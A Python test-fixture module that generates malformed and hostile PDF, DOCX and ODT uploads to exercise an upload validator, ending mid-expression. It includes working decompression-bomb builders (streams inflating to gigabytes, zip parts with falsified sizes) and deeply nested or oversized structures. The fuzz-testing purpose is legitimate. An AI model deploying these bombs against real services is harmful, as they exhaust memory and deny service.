"""A corpus of malformed and hostile uploads, generated deterministically from a seed.

``corpus(seed)`` yields ``Case``s: 34 families of 31 files each, every one of them
broken, dangerous or lying in one stated way, across the types the upload check
accepts (PDF, DOCX, ODT), and things that only pretend to be one of them. A family
names the refusals it may get (``codes``, the ``ValidationError`` codes of
``events.uploads``). Each case is built from its own ``random.Random`` seeded with
``(seed, family, index)``: the same seed gives the same bytes, and one case can be
rebuilt alone (``case(seed, family, index)``).

The valid documents the mutations start from are built here (the statements app's test
files are not imported: ``events`` imports no other app). Every mutation makes a file
that is not a sound document: it does not rely on chance to break one. For example a
truncated PDF always loses at least part of its ``%%EOF`` marker, and a lying central
directory always disagrees with the local header it describes.

Bombs cost nothing to build: a deflate stream of zeros compressed with a full flush
repeats itself, so a part of any size is one compressed megabyte's bytes repeated.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

MB = 1024 * 1024
PER_FAMILY = 31

ODT = "application/vnd.oasis.opendocument.text"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OFFICE_DOCUMENT_REL = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
)
TEXT_NS = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
OFFICE_NS = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"

WORDS = (
    "counter-terrorism",
    "committee",
    "member",
    "states",
    "information",
    "communications",
    "technologies",
    "human",
    "rights",
    "fundamental",
    "freedoms",
    "prevention",
    "exploitation",
    "recruitment",
    "propaganda",
    "cooperation",
    "private",
    "sector",
    "civil",
    "society",
    "resolution",
    "security",
    "council",
    "delegation",
    "statement",
    "session",
    "panel",
    "narratives",
    "online",
    "platforms",
    "capacity",
    "building",
)


@dataclass(frozen=True)
class Case:
    family: str
    index: int
    name: str  # the file name it is uploaded under
    data: bytes
    what: str  # what is wrong with it
    codes: frozenset[str]  # the refusals it may get

    @property
    def label(self) -> str:
        return f"{self.family}#{self.index} ({self.what})"


def _words(rng: random.Random, count: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(count))


def _xml(body: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + body).encode()


# --- Zip packages, written field by field ------------------------------------------------


@dataclass
class Entry:
    """One part of a zip package; ``local``, ``central`` override header fields."""

    name: str
    data: bytes = b""
    method: int = 8
    raw: bytes | None = None  # the compressed bytes as written (default: data, deflated)
    size: int | None = None  # declared uncompressed size (default: len(data))
    crc: int | None = None
    flags: int = 0
    local: dict = field(default_factory=dict)
    central: dict = field(default_factory=dict)
    descriptor: bytes | None = None  # a data descriptor written after the data


def _deflate(data: bytes, level: int = 6) -> bytes:
    compressor = zlib.compressobj(level, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


_LOCAL = "<4sHHHHHIIIHH"
_CENTRAL = "<4sHHHHHHIIIHHHHHII"


class Zip:
    """A zip package as its records, to be damaged before it is written."""

    def __init__(self, entries: list[Entry]):
        self.records: list[dict] = []
        offset = 0
        for entry in entries:
            raw = (
                entry.raw
                if entry.raw is not None
                else (_deflate(entry.data) if entry.method == 8 else entry.data)
            )
            size = entry.size if entry.size is not None else len(entry.data)
            crc = entry.crc if entry.crc is not None else zlib.crc32(entry.data)
            name = entry.name.encode("utf-8")
            zip64 = size >= 0xFFFFFFFF or len(raw) >= 0xFFFFFFFF
            extra = struct.pack("<HHQQ", 1, 16, size, len(raw)) if zip64 else b""
            header = {
                "signature": b"PK\x03\x04",
                "version": 45 if zip64 else 20,
                "flags": entry.flags,
                "method": entry.method,
                "time": 0x6000,
                "date": 0x4D7D,
                "crc": crc,
                "compressed": 0xFFFFFFFF if zip64 else len(raw),
                "size": 0xFFFFFFFF if zip64 else size,
                "name": name,
                "extra": extra,
            }
            central = {
                **header,
                "signature": b"PK\x01\x02",
                "made_by": 0x0314,
                "comment": b"",
                "disk": 0,
                "internal": 0,
                "external": 0,
                "offset": offset,
            }
            header.update(entry.local)
            central.update(entry.central)
            local_bytes = self._local(header) + raw + (entry.descriptor or b"")
            self.records.append({"local": local_bytes, "central": central, "raw": raw})
            offset += len(local_bytes)
        self.eocd = {"disk": 0, "cd_disk": 0, "comment": b""}
        self.prefix = b""
        self.suffix = b""
        self.between = b""  # bytes between the last entry and the central directory

    @staticmethod
    def _local(h: dict) -> bytes:
        return (
            struct.pack(
                _LOCAL,
                h["signature"],
                h["version"],
                h["flags"],
                h["method"],
                h["time"],
                h["date"],
                h["crc"],
                h["compressed"],
                h["size"],
                len(h["name"]),
                len(h["extra"]),
            )
            + h["name"]
            + h["extra"]
        )

    @staticmethod
    def _central(c: dict) -> bytes:
        return (
            struct.pack(
                _CENTRAL,
                c["signature"],
                c["made_by"],
                c["version"],
                c["flags"],
                c["method"],
                c["time"],
                c["date"],
                c["crc"],
                c["compressed"],
                c["size"],
                len(c["name"]),
                len(c["extra"]),
                len(c["comment"]),
                c["disk"],
                c["internal"],
                c["external"],
                c["offset"],
            )
            + c["name"]
            + c["extra"]
            + c["comment"]
        )

    def build(self) -> bytes:
        body = b"".join(record["local"] for record in self.records)
        directory = b"".join(self._central(record["central"]) for record in self.records)
        cd_offset = self.eocd.get("cd_offset", len(body) + len(self.between))
        eocd = struct.pack(
            "<4sHHHHIIH",
            b"PK\x05\x06",
            self.eocd["disk"],
            self.eocd["cd_disk"],
            self.eocd.get("disk_entries", len(self.records)),
            self.eocd.get("entries", len(self.records)),
            self.eocd.get("cd_size", len(directory)),
            cd_offset,
            self.eocd.get("comment_length", len(self.eocd["comment"])),
        )
        return (
            self.prefix + body + self.between + directory + eocd + self.eocd["comment"]
        ) + self.suffix


def docx_entries(rng: random.Random, *, paragraphs: int = 3) -> list[Entry]:
    """A sound, minimal Word document (what Word needs to open it)."""
    body = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{_words(rng, 12)}</w:t></w:r></w:p>'
        for _ in range(paragraphs)
    )
    return [
        Entry(
            "[Content_Types].xml",
            _xml(
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" '
                'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/word/document.xml" ContentType="{WORD_MAIN}"/>'
                "</Types>"
            ),
        ),
        Entry(
            "_rels/.rels",
            _xml(
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="rId1" Type="{OFFICE_DOCUMENT_REL}" '
                'Target="word/document.xml"/></Relationships>'
            ),
        ),
        Entry(
            "word/document.xml",
            _xml(f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'),
        ),
        Entry(
            "docProps/app.xml",
            _xml(
                '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
                'extended-properties"><Pages>1</Pages></Properties>'
            ),
        ),
    ]


def odt_entries(rng: random.Random, *, mimetype: str = ODT) -> list[Entry]:
    """A sound, minimal OpenDocument text (what LibreOffice needs to open it)."""
    body = "".join(f"<text:p>{_words(rng, 12)}</text:p>" for _ in range(3))
    return [
        Entry("mimetype", mimetype.encode(), method=0),
        Entry(
            "content.xml",
            _xml(
                f'<office:document-content xmlns:office="{OFFICE_NS}" xmlns:text="{TEXT_NS}" '
                f'office:version="1.3"><office:body><office:text>{body}</office:text>'
                "</office:body></office:document-content>"
            ),
        ),
        Entry(
            "META-INF/manifest.xml",
            _xml(
                f'<manifest:manifest xmlns:manifest="{MANIFEST_NS}" manifest:version="1.3">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
                '<manifest:file-entry manifest:full-path="content.xml" '
                'manifest:media-type="text/xml"/></manifest:manifest>'
            ),
        ),
    ]


def _replace(entries: list[Entry], name: str, data: bytes, **options) -> list[Entry]:
    return [Entry(name, data, **options) if e.name == name else e for e in entries]


def _without(entries: list[Entry], name: str) -> list[Entry]:
    return [e for e in entries if e.name != name]


def _zip(entries: list[Entry]) -> bytes:
    return Zip(entries).build()


# --- Bombs -----------------------------------------------------------------------------


@functools.cache
def _zero_blocks() -> tuple[bytes, bytes]:
    """Raw deflate of one megabyte of zeros ending in a full flush (it repeats itself
    exactly), and the end of the stream."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * MB) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block, compressor.flush()


@functools.cache
def _zeros_crc(megabytes: int) -> int:
    chunk, crc = b"\0" * MB, 0
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return crc


def _zero_bomb(megabytes: int) -> bytes:
    block, end = _zero_blocks()
    return block * megabytes + end


def _bomb_entry(name: str, megabytes: int, *, honest: bool = True) -> Entry:
    """A part of ``megabytes`` MB of zeros in about a thousandth of that; when not
    honest the package declares it tiny (and the checksum of what it declares)."""
    raw = _zero_bomb(megabytes)
    if honest:
        return Entry(name, raw=raw, size=megabytes * MB, crc=_zeros_crc(megabytes))
    return Entry(name, raw=raw, size=1000, crc=zlib.crc32(b"\0" * 1000))


# --- PDF --------------------------------------------------------------------------------


def pdf_bytes(
    objects: list[bytes],
    *,
    version: bytes = b"1.4",
    trailer: bytes | None = None,
    head: bytes = b"",
    crlf: bool = False,
) -> bytes:
    """A PDF from its numbered objects (1 is the catalog), with a correct xref table;
    ``crlf``: with CR LF line ends (the table's entries then end in CR LF)."""
    eol = b"\r\n" if crlf else b"\n"
    out = bytearray(b"%PDF-" + version + eol + b"%\xe2\xe3\xcf\xd3" + eol + head)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj" % number + eol + body + eol + b"endobj" + eol
    xref = len(out)
    ending = b"\r\n" if crlf else b" \n"
    out += b"xref" + eol + b"0 %d" % (len(objects) + 1) + eol + b"0000000000 65535 f" + ending
    for offset in offsets:
        out += b"%010d 00000 n" % offset + ending
    trailer = trailer or b"<< /Size %d /Root 1 0 R >>" % (len(objects) + 1)
    out += b"trailer" + eol + trailer + eol + b"startxref" + eol + b"%d" % xref + eol
    return bytes(out + b"%%EOF" + eol)


def updated_pdf(rng: random.Random) -> bytes:
    """A sound PDF saved twice: an incremental update replaces its page (the update's
    cross-reference section lists only that object, starting at its number)."""
    objects = pdf_objects(rng)
    first = pdf_bytes(objects)
    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    page = objects[2].replace(b"[0 0 595 842]", b"[0 0 612 792]")
    offset = len(first)
    update = b"3 0 obj\n" + page + b"\nendobj\n"
    xref = offset + len(update)
    update += b"xref\n3 1\n%010d 00000 n \n" % offset
    update += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (len(objects) + 1, previous)
    return first + update + b"startxref\n%d\n%%%%EOF\n" % xref


def _content(rng: random.Random, lines: int = 4) -> bytes:
    text = b"BT /F1 12 Tf 56 780 Td 16 TL\n"
    for _ in range(lines):
        text += b"(" + _words(rng, 8).encode() + b") Tj T*\n"
    return text + b"ET"


def _stream(data: bytes, *, flate: bool = True, extra: bytes = b"") -> bytes:
    if flate:
        data = zlib.compress(data)
        extra = b" /Filter /FlateDecode" + extra
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def pdf_objects(rng: random.Random, *, pages: int = 1, content: bytes | None = None) -> list:
    """The objects of a sound PDF of ``pages`` pages: catalog, page tree, pages, font,
    then one content stream per page."""
    font = 3 + pages
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
    ]
    for i in range(pages):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (font, font + 1 + i)
        )
    objects.append(FONT)
    for _ in range(pages):
        objects.append(_stream(content if content is not None else _content(rng)))
    return objects


def sound_pdf(rng: random.Random, *, pages: int = 1) -> bytes:
    return pdf_bytes(pdf_objects(rng, pages=pages))


def objstm_pdf(
    rng: random.Random,
    *,
    objstm: Callable[[bytes, bytes], tuple[bytes, bytes]] | None = None,
    xref: Callable[[bytes, bytes], tuple[bytes, bytes]] | None = None,
    hybrid: bool = False,
) -> bytes:
    """A PDF 1.5 with its catalog, page tree, page and font in a compressed object
    stream and a compressed cross-reference stream. ``objstm`` and ``xref`` may damage
    the (dictionary extra, data) of either before it is written. ``hybrid``: a classic
    table of the uncompressed objects whose trailer points at the stream with /XRefStm,
    as Word writes them for readers older than PDF 1.5."""
    inner = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        FONT,
    ]
    header, body = b"", b""
    for number, obj in enumerate(inner, start=1):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    stm_extra = b" /Type /ObjStm /N 4 /First %d" % len(header)
    stm_data = zlib.compress(header + body)
    if objstm:
        stm_extra, stm_data = objstm(stm_extra, stm_data)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    offsets[5] = len(out)
    out += b"5 0 obj\n" + _stream(_content(rng)) + b"\nendobj\n"
    offsets[6] = len(out)
    out += b"6 0 obj\n<< /Length %d /Filter /FlateDecode%s >>\nstream\n" % (
        len(stm_data),
        stm_extra,
    )
    out += stm_data + b"\nendstream\nendobj\n"
    offsets[7] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 6, i) for i in range(4)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (5, 6, 7)]
    xref_extra = b" /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R"
    xref_data = zlib.compress(b"".join(rows))
    if xref:
        xref_extra, xref_data = xref(xref_extra, xref_data)
    out += b"7 0 obj\n<< /Length %d /Filter /FlateDecode%s >>\nstream\n" % (
        len(xref_data),
        xref_extra,
    )
    out += xref_data + b"\nendstream\nendobj\n"
    if not hybrid:
        return bytes(out + b"startxref\n%d\n%%%%EOF\n" % offsets[7])
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n5 3\n"
    out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in (5, 6, 7))
    out += b"trailer\n<< /Size 8 /Root 1 0 R /XRefStm %d >>\n" % offsets[7]
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def _flip(rng: random.Random, data: bytes, start: int = 0, end: int | None = None) -> bytes:
    """``data`` with a few bytes in [start, end) changed (each to another value)."""
    data = bytearray(data)
    end = len(data) if end is None else end
    for _ in range(rng.randint(1, 4)):
        position = rng.randrange(start, end)
        data[position] ^= rng.randrange(1, 256)
    return bytes(data)


def _section(data: bytes, start: bytes, end: bytes) -> tuple[int, int]:
    first = data.rindex(start)
    return first, data.index(end, first)


# --- The families -------------------------------------------------------------------------

Builder = Callable[[random.Random, int], tuple[bytes, str]]


@dataclass(frozen=True)
class Family:
    name: str
    extension: str  # "*": pdf, docx and odt in turn
    codes: frozenset[str]
    build: Builder


FAMILIES: dict[str, Family] = {}


def family(name: str, extension: str, *codes: str):
    def register(build: Builder) -> Builder:
        FAMILIES[name] = Family(name, extension, frozenset(codes), build)
        return build

    return register


# PDF ---------------------------------------------------------------------------------------


@family("pdf-truncated", "pdf", "unreadable")
def _pdf_truncated(rng, i):
    data = sound_pdf(rng, pages=1 + i % 3)
    cut = rng.randrange(9, len(data) - 1)  # loses at least the end of %%EOF
    return data[:cut], f"cut at {cut} of {len(data)} bytes"


@family("pdf-xref-table", "pdf", "unreadable")
def _pdf_xref_table(rng, i):
    data = sound_pdf(rng, pages=1 + i % 2)
    start, end = _section(data, b"\nxref\n", b"trailer")
    start += 1
    table = data[start:end]
    rows = table.split(b"\n")
    variant = i % 8
    if variant == 0:  # an object's offset points elsewhere
        row = rng.randrange(3, len(rows) - 1)
        rows[row] = b"%010d 00000 n " % rng.randrange(20, len(data) - 30)
        what = f"entry {row - 3} points elsewhere"
    elif variant == 1:  # every offset off by a few bytes
        shift = rng.choice((-7, -3, -1, 1, 2, 5, 11))
        rows = rows[:3] + [
            b"%010d 00000 n " % (int(r[:10]) + shift) if r.endswith(b"n ") else r for r in rows[3:]
        ]
        what = f"every offset shifted by {shift}"
    elif variant == 2:  # the keyword is gone
        rows[0] = rng.choice((b"xrff", b"XREF", b"    ", b"xre"))
        what = "the xref keyword is damaged"
    elif variant == 3:  # the subsection says another number of entries
        count = int(rows[1].split()[1])
        rows[1] = b"0 %d" % rng.choice((count - 1, count + 3, 1))
        what = "the subsection counts wrong"
    elif variant == 4:  # entries in use marked free
        row = rng.randrange(3, len(rows) - 1)
        rows[row] = rows[row][:-2] + b"f "
        what = f"object {row - 2} marked free"
    elif variant == 5:  # garbage entries
        row = rng.randrange(2, len(rows) - 1)
        rows[row] = bytes(rng.choice(b"0123456789abcxyz ") for _ in range(18))
        what = "an entry is garbage"
    elif variant == 6:  # the subsection starts at another number
        rows[1] = b"%d %s" % (rng.randrange(1, 9), rows[1].split()[1])
        what = "the subsection starts at the wrong number"
    else:  # the table is gone
        rows = [b"xref", b""]
        what = "the table is empty"
    return data[:start] + b"\n".join(rows) + data[end:], what


@family("pdf-startxref", "pdf", "unreadable")
def _pdf_startxref(rng, i):
    data = sound_pdf(rng, pages=1 + i % 2)
    start, end = _section(data, b"startxref\n", b"%%EOF")
    real = int(data[start + 10 : end])
    variant = i % 6
    if variant == 0:
        value, what = b"%d" % rng.randrange(0, real - 5), "points inside the body"
    elif variant == 1:
        value, what = b"%d" % (len(data) + rng.randrange(1, 10**6)), "points past the end"
    elif variant == 2:
        value, what = b"-%d" % rng.randrange(1, 1000), "is negative"
    elif variant == 3:
        value, what = rng.choice((b"abc", b"", b"0x1F", b"12 34")), "is not a number"
    elif variant == 4:
        value, what = b"%d" % (real + rng.choice((-2, -1, 1, 3))), "is off by a little"
    else:
        return data[:start] + data[end:], "is missing"
    return data[:start] + b"startxref\n" + value + b"\n" + data[end:], f"startxref {what}"


@family("pdf-trailer", "pdf", "unreadable")
def _pdf_trailer(rng, i):
    objects = pdf_objects(rng)
    size = len(objects) + 1
    variant = i % 7
    if variant == 0:
        trailer, what = b"<< /Size %d >>" % size, "no /Root"
    elif variant == 1:
        trailer, what = b"<< /Size %d /Root %d 0 R >>" % (size, size + 40), "/Root missing"
    elif variant == 2:
        trailer, what = b"<< /Size %d /Root 3 0 R >>" % size, "/Root is a page"
    elif variant == 3:
        trailer, what = b"<< /Size %d /Root 1 0 R" % size, "dictionary not closed"
    elif variant == 4:
        trailer, what = b"<< /Size %d /Root 1 0 R /Prev 17 >>" % size, "/Prev into the body"
    elif variant == 5:
        trailer, what = b"<< /Size %d /Root (catalog) >>" % size, "/Root is a string"
    else:
        data = pdf_bytes(objects)
        keyword = rng.choice((b"trailor", b"TRAILER", b"tr\0iler"))
        return data.replace(b"trailer\n", keyword + b"\n"), "the trailer keyword is damaged"
    return pdf_bytes(objects, trailer=trailer), f"trailer: {what}"


def _objstm_damage(rng: random.Random, variant: int):
    def n_wrong(extra, data):
        return extra.replace(b"/N 4", b"/N %d" % rng.choice((0, 1, 2, 9, 400))), data

    def first_wrong(extra, data):
        first = int(extra.rsplit(b"/First ", 1)[1])
        return extra.replace(
            b"/First %d" % first, b"/First %d" % (first + rng.choice((-5, -1, 2, 300)))
        ), data

    def flate_broken(extra, data):
        return extra, _flip(rng, data, 2, len(data) - 4)

    def flate_cut(extra, data):
        return extra, data[: rng.randrange(2, len(data) - 2)]

    def offsets_wrong(extra, data):
        plain = zlib.decompress(data)
        plain = plain.replace(b"2 ", b"2 %d" % rng.randrange(1, 9), 1)
        return extra, zlib.compress(plain)

    def not_compressed(extra, data):
        return extra, zlib.decompress(data)

    def type_wrong(extra, data):
        return extra.replace(b"/ObjStm", rng.choice((b"/XObject", b"/ObjStream"))), data

    damages = [n_wrong, first_wrong, flate_broken, flate_cut, offsets_wrong, not_compressed]
    damages.append(type_wrong)
    return damages[variant % len(damages)]


def _xref_stream_damage(rng: random.Random, variant: int):
    def flate_broken(extra, data):
        return extra, _flip(rng, data, 2, len(data) - 4)

    def widths_wrong(extra, data):
        return extra.replace(b"/W [1 4 2]", rng.choice((b"/W [1 2 2]", b"/W [2 4 2]"))), data

    def size_wrong(extra, data):
        return extra.replace(b"/Size 8", b"/Size 3"), data

    def type_removed(extra, data):
        return extra.replace(b"/Type /XRef", b""), data

    def rows_wrong(extra, data):
        plain = bytearray(zlib.decompress(data))
        row = rng.randrange(1, 8)
        plain[row * 7 : row * 7 + 7] = struct.pack(">BIH", 1, rng.randrange(0, 99999), 0)
        return extra, zlib.compress(bytes(plain))

    damages = [flate_broken, widths_wrong, size_wrong, type_removed, rows_wrong]
    return damages[variant % len(damages)]


@family("pdf-object-streams", "pdf", "unreadable")
def _pdf_object_streams(rng, i):
    if i % 3 == 2:
        damage = _xref_stream_damage(rng, i // 3)
        return objstm_pdf(rng, xref=damage), f"cross-reference stream: {damage.__name__}"
    damage = _objstm_damage(rng, i - i // 3)
    return objstm_pdf(rng, objstm=damage), f"object stream: {damage.__name__}"


@family("pdf-objects", "pdf", "unreadable", "no_pages")
def _pdf_objects(rng, i):
    objects = pdf_objects(rng, pages=2)
    variant = i % 10
    if variant == 0:
        objects[1] = b"<< /Type /Pages /Kids [3 0 R 77 0 R] /Count 2 >>"
        what = "a page that does not exist"
    elif variant == 1:
        objects[1] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"
        what = "the page tree contains itself"
    elif variant == 2:
        objects[1] = b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count %d >>" % rng.choice(
            (1, 3, 7, 1000)
        )
        what = "/Count lies"
    elif variant == 3:
        objects[0] = b"<< /Type /Catalog /Pages 2 0 R"
        what = "the catalog is not closed"
    elif variant == 4:
        objects[2] = objects[2].replace(b"/MediaBox [0 0 595 842] ", b"")
        what = "a page without a size"
    elif variant == 5:
        objects[2] = objects[2].replace(b"[0 0 595 842]", b"[0 0 (wide) /tall]")
        what = "a page size that is not numbers"
    elif variant == 6:
        objects[2] = b"[ /Type /Page /Parent 2 0 R ]"
        what = "a page that is an array"
    elif variant == 7:
        objects[1] = objects[1].replace(b"/Type /Pages", b"/Type /Outlines")
        objects[0] = objects[0].replace(b"/Pages 2 0 R", b"/Pages 5 0 R")
        what = "/Pages points at the font"
    elif variant == 8:
        data = pdf_bytes(objects)
        return data.replace(b"endobj", b"", 1), "an object without endobj"
    else:
        data = pdf_bytes(objects)
        number = rng.randrange(2, 5)
        return data.replace(b"\n%d 0 obj" % number, b"\n%d 0 obj" % (number + 40), 1), (
            f"object {number} is numbered wrong"
        )
    return pdf_bytes(objects), what


@family("pdf-streams", "pdf", "unreadable")
def _pdf_streams(rng, i):
    content = _content(rng, 6)
    compressed = zlib.compress(content)
    variant = i % 8
    extra = b""
    if variant == 0:
        data, what = _flip(rng, compressed, 2, len(compressed) - 4), "damaged deflate data"
        extra = b" /Filter /FlateDecode"
    elif variant == 1:
        data, what = compressed[: rng.randrange(2, len(compressed) - 3)], "cut deflate data"
        extra = b" /Filter /FlateDecode"
    elif variant == 2:
        data, what = content, "/FlateDecode on plain text"
        extra = b" /Filter /FlateDecode"
    elif variant == 3:
        data, what = compressed + b"GARBAGE" * rng.randint(1, 9), "data after the deflate end"
        extra = b" /Filter /FlateDecode"
    elif variant == 4:
        data = compressed
        extra = b" /Filter /" + rng.choice((b"Unknown", b"JPXDecode2", b"Zip")).strip()
        what = "an unknown filter"
    elif variant == 5:
        data, what = b"GZ" + content.hex().encode()[:50] + b"Q>", "invalid hexadecimal"
        extra = b" /Filter /ASCIIHexDecode"
    elif variant == 6:  # the length says more than there is, and there is no endstream
        stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % (len(compressed) + 500)
        objects = pdf_objects(rng)
        objects[-1] = stream + compressed
        return pdf_bytes(objects), "/Length past the end, no endstream"
    else:
        data, what = b"\x78\x9c" + rng.randbytes(60), "random bytes after a zlib header"
        extra = b" /Filter /FlateDecode"
    objects = pdf_objects(rng)
    objects[-1] = b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"
    return pdf_bytes(objects), what


@family("pdf-stream-bomb", "pdf", "too_complex")
def _pdf_stream_bomb(rng, i):
    megabytes = (420, 512, 640, 1024, 2048)[i % 5]
    raw = b"\x78\xda" + _zero_bomb(megabytes) + struct.pack(">I", 1)
    objects = pdf_objects(rng)
    if i % 2:  # a page's content
        objects[-1] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(raw) + raw
        objects[-1] += b"\nendstream"
    else:  # a font file
        objects[3] = FONT[:-2] + b"/FontFile 6 0 R >>"
        objects.append(
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(raw) + raw + b"\nendstream"
        )
    return pdf_bytes(objects), f"a stream that inflates to {megabytes} MB"


def _encrypted_pdf(rng: random.Random, algorithm: str, user: str, owner: str) -> bytes:
    """Encrypted by pypdf, with the case's generator standing in for the random bytes
    (keys, salts, IVs, the file ID) it draws from ``secrets``: the same bytes each time."""
    from unittest import mock

    from pypdf import PdfReader, PdfWriter

    with mock.patch("secrets.token_bytes", rng.randbytes):
        writer = PdfWriter()
        writer.append_pages_from_reader(PdfReader(io.BytesIO(sound_pdf(rng))))
        writer.encrypt(user, owner, algorithm=algorithm)
        buffer = io.BytesIO()
        writer.write(buffer)
    return buffer.getvalue()


@family("pdf-encrypted", "pdf", "encrypted", "unreadable")
def _pdf_encrypted(rng, i):
    algorithms = ("RC4-40", "RC4-128", "AES-128", "AES-256", "AES-256-R5")
    algorithm = algorithms[i % len(algorithms)]
    if i % 6 == 5:  # an /Encrypt dictionary that makes no sense
        objects = pdf_objects(rng)
        objects.append(
            b"<< /Filter /%s /V %d /R %d >>"
            % (rng.choice((b"Standard", b"Unknown")), rng.randrange(6, 99), rng.randrange(7, 99))
        )
        trailer = b"<< /Size %d /Root 1 0 R /Encrypt %d 0 R /ID [<00> <00>] >>" % (
            len(objects) + 1,
            len(objects),
        )
        return pdf_bytes(objects, trailer=trailer), "an unknown encryption"
    user = "" if i % 3 == 0 else _words(rng, 2)
    owner = _words(rng, 3)
    what = f"{algorithm}, " + ("opens without a password" if not user else "user password")
    return _encrypted_pdf(rng, algorithm, user, owner), what


@family("pdf-random", "pdf", "unreadable")
def _pdf_random(rng, i):
    length = rng.choice((1, 10, 100, 1000, 10_000, 100_000))
    body = rng.randbytes(length).replace(b"<", b"(")  # nothing that looks like a web page
    version = b"1.%d" % rng.randrange(0, 8)
    ending = b"\n%%EOF\n" if i % 2 else b""
    return b"%PDF-" + version + b"\n" + body + ending, f"{length} random bytes"


@family("pdf-deep-nesting", "pdf", "too_complex", "unreadable")
def _pdf_deep_nesting(rng, i):
    depth = rng.choice((3000, 10_000, 50_000, 200_000))
    objects = pdf_objects(rng)
    variant = i % 4
    if variant == 0:
        nested = b"[" * depth + b"0" + b"]" * depth
        objects[2] = objects[2].replace(b">> >>", b">> /Nested " + nested + b" >>")
        what = f"arrays {depth} deep in a page"
    elif variant == 1:
        nested = b"<< /A " * depth + b"0" + b" >>" * depth
        objects[0] = objects[0][:-2] + b"/Nested " + nested + b" >>"
        what = f"dictionaries {depth} deep in the catalog"
    elif variant == 2:
        nested = b"[" * depth  # never closed
        objects[2] = objects[2].replace(b">> >>", b">> /Nested " + nested + b" >>")
        what = f"{depth} arrays never closed"
    else:  # a page tree thousands of levels deep
        depth = rng.choice((1000, 3000, 6000))
        objects = pdf_objects(rng)
        page, font, content = objects[2:5]
        base = len(objects) + 1
        chain = []
        for level in range(depth):
            kid = base + level + 1 if level + 1 < depth else 3
            chain.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % kid)
        objects = [b"<< /Type /Catalog /Pages %d 0 R >>" % base, objects[1]]
        objects += [page.replace(b"/Parent 2 0 R", b"/Parent %d 0 R" % (base + depth - 1))]
        objects += [font, content, *chain]
        what = f"a page tree {depth} levels deep"
    return pdf_bytes(objects), what


@family("pdf-huge-declared", "pdf", "unreadable", "too_complex")
def _pdf_huge_declared(rng, i):
    objects = pdf_objects(rng)
    variant = i % 5
    huge = rng.choice((2**31 - 1, 2**32, 10**12, 2**63 - 1))
    if variant == 0:
        objects[1] = objects[1].replace(b"/Count 1", b"/Count %d" % huge)
        return pdf_bytes(objects), f"/Count {huge}"
    if variant == 1:
        compressed = objects[-1].split(b"stream\n", 1)[1].rsplit(b"\nendstream", 1)[0]
        objects[-1] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % huge + compressed
        return pdf_bytes(objects), f"a stream /Length {huge} without endstream"
    data = pdf_bytes(objects)
    if variant == 2:
        count = int(data[data.rindex(b"xref\n0 ") + 7 :].split(b"\n", 1)[0])
        return data.replace(b"xref\n0 %d\n" % count, b"xref\n0 %d\n" % huge), (
            f"the xref table says {huge} entries"
        )
    if variant == 3:
        return data.replace(b"\n3 0 obj", b"\n%d 0 obj" % huge, 1), f"object number {huge}"
    return data.replace(b"/Size %d" % (len(objects) + 1), b"/Size %d" % huge).replace(
